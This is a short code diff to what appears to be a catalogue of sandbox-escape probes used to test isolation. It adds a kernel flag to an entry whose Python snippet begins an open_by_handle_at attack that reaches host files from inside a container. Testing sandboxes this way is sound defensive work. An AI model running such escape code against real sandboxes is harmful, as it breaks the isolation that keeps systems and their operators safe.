@@ -56,6 +56,7 @@ export const BY_FILES: readonly Escape[] = [
   },
   {
     name: "a file of the host, by a handle of its inode (open_by_handle_at)",
+    ofKernel: true,
     tries: `
       handle = ctypes.create_string_buffer(struct.pack("iI", 8, 1) + struct.pack("II", 2, 0) + bytes(64))
       where = os.open("/var/task", os.O_RDONLY)
